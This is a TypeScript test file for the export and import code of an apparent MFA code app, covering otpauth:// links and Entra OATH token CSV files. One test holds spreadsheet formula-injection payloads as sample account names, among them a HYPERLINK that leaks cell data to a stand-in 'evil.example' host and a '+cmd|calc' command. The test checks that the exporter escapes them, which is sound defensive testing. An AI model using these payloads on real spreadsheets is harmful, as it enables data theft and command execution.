import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { type Account, newAccount, type ValidAccount } from '../accounts';
import { describeLeftOut } from './describe';
import { english } from './english.testing';
import { exportEntraCsv, exportFile, exportOtpauthLinks, parseImport } from './index';

function account(valid: Partial<ValidAccount> & Pick<ValidAccount, 'name' | 'secret'>, id: string): Account {
  return newAccount({ issuer: '', notes: '', digits: 6, period: 30, algorithm: 'SHA1', ...valid }, id, 0);
}

/** Names and issuers that stress the link and CSV syntax: separators, quotes, percent signs, non-ASCII. */
const ACCOUNTS: Account[] = [
  account({ name: 'qa.user@contoso.onmicrosoft.com', issuer: 'Microsoft', secret: 'JBSWY3DPEHPK3PXP' }, 'a'),
  account(
    { name: 'jörg müller@contoso.com', issuer: 'Contoso: EU & "Ops"', secret: 'GEZDGNBVGY3TQOJQ', period: 60 },
    'b',
  ),
  account({ name: 'a:b?c#d%20e,f', secret: 'MFRGGZDFMZTWQ2LKMFRGGZDF', digits: 8, algorithm: 'SHA256' }, 'c'),
  account(
    {
      name: 'token@contoso.com',
      issuer: 'Microsoft',
      secret: 'A'.repeat(128),
      algorithm: 'SHA512',
      notes: 'Serial number: 42 · Manufacturer: Contoso, Ltd. · Model: "K1"',
    },
    'd',
  ),
];

function codeSettings(a: Pick<Account, 'name' | 'secret' | 'digits' | 'period' | 'algorithm'>) {
  return { name: a.name, secret: a.secret, digits: a.digits, period: a.period, algorithm: a.algorithm };
}

describe('export → import round trips', () => {
  it('otpauth:// links, one per line', async () => {
    const text = exportOtpauthLinks(ACCOUNTS);
    expect(text.split('\n')).toHaveLength(ACCOUNTS.length + 1);
    const parse = await parseImport(text);
    expect(parse.invalid).toEqual([]);
    expect(parse.valid.map((a) => ({ ...codeSettings(a), issuer: a.issuer }))).toEqual(
      ACCOUNTS.map((a) => ({ ...codeSettings(a), issuer: a.issuer })),
    );
  });

  it('Entra OATH token CSV, with serial number, manufacturer and model from the notes', async () => {
    const tokens = ACCOUNTS.filter((a) => a.digits === 6 && a.algorithm === 'SHA1');
    const { text, leftOut } = exportEntraCsv(ACCOUNTS);
    expect(text.startsWith('upn,serial number,secret key,time interval,manufacturer,model\r\n')).toBe(true);
    expect(leftOut).toEqual([
      { name: 'a:b?c#d%20e,f', digits: 8, algorithm: 'SHA256' },
      { name: 'token@contoso.com', digits: 6, algorithm: 'SHA512' },
    ]);
    expect(describeLeftOut(leftOut[0]!, english)).toBe(
      'a:b?c#d%20e,f: Entra OATH tokens make 6-digit SHA1 codes; this account makes 8-digit SHA256 codes.',
    );
    const parse = await parseImport(text);
    expect(parse.invalid).toEqual([]);
    expect(parse.valid.map(codeSettings)).toEqual(tokens.map(codeSettings));

    const withNotes = [account({ ...ACCOUNTS[3]!, algorithm: 'SHA1' }, 'e')];
    const reparsed = await parseImport(exportEntraCsv(withNotes).text);
    expect(reparsed.valid.map((a) => [a.name, a.notes])).toEqual([
      ['token@contoso.com', 'Serial number: 42 · Manufacturer: Contoso, Ltd. · Model: "K1"'],
    ]);
  });

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Click")@contoso.com',
    '+cmd|calc!A0@contoso.com',
    '-2+3@contoso.com',
    '@SUM(1+1)@contoso.com',
    '=1+1\nsecond line',
  ])('Entra CSV: a cell a spreadsheet would run (%j) is escaped and read back as it was', async (name) => {
    const token = account({ name, secret: 'JBSWY3DPEHPK3PXP', notes: 'Serial number: =1+1 · Model: @x' }, 'f');
    const { text } = exportEntraCsv([token]);
    const cells = Papa.parse<string[]>(text, { skipEmptyLines: true }).data[1] ?? [];
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells[0]).toBe(`'${name}`);
    expect(cells[1]).toBe("'=1+1");
    expect(cells[5]).toBe("'@x");
    const parse = await parseImport(text);
    expect(parse.invalid).toEqual([]);
    // The manufacturer the row lacked is filled on export (Entra's upload needs it), so it comes back.
    expect(parse.valid.map((a) => [a.name, a.notes])).toEqual([
      [name.trim(), 'Serial number: =1+1 · Manufacturer: MFA Autofill · Model: @x'],
    ]);
  });

  it('names export files by kind and date', () => {
    expect(exportFile('backup', Date.UTC(2026, 2, 4))).toEqual({
      fileName: 'mfa-autofill-2026-03-04-backup.json',
      type: 'application/json',
    });
    expect(exportFile('entra-csv', Date.UTC(2026, 2, 4)).fileName).toBe('mfa-autofill-2026-03-04-oath-tokens.csv');
    expect(exportFile('otpauth-links', Date.UTC(2026, 2, 4)).type).toBe('text/plain');
  });
});
